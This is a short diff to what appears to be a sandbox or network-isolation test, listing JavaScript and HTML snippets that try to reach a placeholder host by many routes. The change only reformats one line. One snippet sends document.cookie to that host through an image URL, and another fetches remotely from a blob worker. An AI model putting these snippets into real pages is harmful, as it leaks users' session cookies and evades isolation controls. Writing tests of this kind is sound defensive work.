@@ -24,7 +24,8 @@ REQUESTS = {
         go(() => { new Image().src = "http://H/image?" + document.cookie; });
         go(() => new Audio("http://H/audio").play()); go(() => window.open("http://H/open"));
         go(() => new Worker(URL.createObjectURL(new Blob(["fetch('http://H/in-worker')"]))));
-        go(() => parent.location.replace("http://H/parent")); go(() => { top.location = "http://H/top"; });
+        go(() => parent.location.replace("http://H/parent"));
+        go(() => { top.location = "http://H/top"; });
         </script>""",
     "markup": """<link rel=stylesheet href=http://H/a><link rel=prefetch href=http://H/b>
         <link rel=preload as=image href=http://H/c><link rel=icon href=http://H/d>
